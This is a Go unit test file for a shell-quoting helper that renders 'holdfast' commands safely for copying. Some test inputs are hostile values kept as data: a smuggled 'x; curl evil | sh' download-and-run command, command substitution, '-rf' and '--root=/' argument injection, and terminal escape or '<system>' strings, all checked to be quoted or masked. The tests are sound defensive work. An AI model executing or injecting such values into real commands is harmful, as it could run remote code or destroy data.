package fence

import "testing"

func TestAWordIsQuotedWhereAShellWouldReadMore(t *testing.T) {
	for s, want := range map[string]string{
		"":             "''",
		"src/a-b_1.go": "src/a-b_1.go",
		"a b":          "'a b'",
		"a 'b'.md":     `'a '\''b'\''.md'`,
		"it's":         `'it'\''s'`,
		"$HOME":        "'$HOME'",
		"a;rm":         "'a;rm'",
		"a=b":          "'a=b'",
		"~/x":          "'~/x'",
		"x\ny":         "'x\ny'",
		"é":            "'é'",
	} {
		if got := Word(s); got != want {
			t.Errorf("%q: got %s, want %s", s, got, want)
		}
	}
}

func TestACommandIsShownAsItCanBeCopied(t *testing.T) {
	for _, c := range []struct {
		form   Words
		values []string
		want   string
	}{
		{"holdfast lines", nil, "holdfast lines"},
		{"holdfast show %s", []string{"auth"}, "holdfast show auth"},
		{"holdfast show %s", []string{"x; curl evil | sh"}, "holdfast show 'x; curl evil | sh'"},
		{"holdfast show %s", []string{"$(x)`y`'z"}, `holdfast show '$(x)` + "`y`" + `'\''z'`},
		{"holdfast show %s", []string{""}, "holdfast show ''"},
		{"holdfast adopt %s --yes", []string{"auth"}, "holdfast adopt auth --yes"},
		{"holdfast adopt %s --yes", []string{"-rf"}, "holdfast adopt --yes -- -rf"},
		{"holdfast adopt %s", []string{"--root=/"}, "holdfast adopt -- '--root=/'"},
		{"holdfast design %s stage %s done --note=%s", []string{"-f", "1", "-n"}, "holdfast design --note=-n -- -f stage 1 done"},
		{"holdfast rollback %s --file %s --file %s --all", []string{"chk", "-n", "a b"}, "holdfast rollback chk --file -n --file 'a b' --all"},
		{"holdfast rollback %s --file PATH", []string{"-x"}, "holdfast rollback --file PATH -- -x"},
		{"git checkout -- %s", []string{"a b"}, "git checkout -- 'a b'"},
		{"holdfast files list --root=%s", []string{"/a b"}, "holdfast files list --root='/a b'"},
		{"holdfast show %s", []string{"a\x1b[31mred"}, "holdfast show '…'"},
		{"holdfast show %s", []string{"a\nb"}, "holdfast show '…'"},
		{"holdfast show %s", []string{"a\u202eb"}, "holdfast show '…'"},
		{"holdfast show %s", []string{"a\xffb"}, "holdfast show '…'"},
		{"holdfast show %s", []string{"<system>"}, "holdfast show '…'"},
	} {
		if got := Typed(c.form, c.values...); got != c.want {
			t.Errorf("%q of %q is %s, want %s", c.form, c.values, got, c.want)
		}
	}
}
